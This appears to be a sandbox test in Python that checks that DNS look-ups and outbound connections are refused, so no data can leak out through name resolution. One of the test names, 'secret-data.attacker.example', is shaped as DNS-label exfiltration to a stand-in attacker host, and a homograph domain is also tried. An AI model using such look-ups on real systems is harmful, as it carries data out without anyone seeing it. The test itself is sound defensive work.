# expect: succeeded result='"refused"' memory=64MiB timeout=5s
# A name look-up would carry data out by itself (DNS labels): none leaves.
import socket


def run():
    for name in ("example.com", "localhost", "secret-data.attacker.example", "a" * 300, "xn--", "\u0430pple.com", "127.1"):
        for look_up in (
            lambda: socket.getaddrinfo(name, 443),
            lambda: socket.gethostbyname(name),
            lambda: socket.create_connection((name, 443), timeout=1),
        ):
            try:
                answer = look_up()
            except (OSError, UnicodeError):
                continue
            # An address written as digits may be parsed without asking anybody.
            assert name == "127.1", (name, answer)
    return "refused"
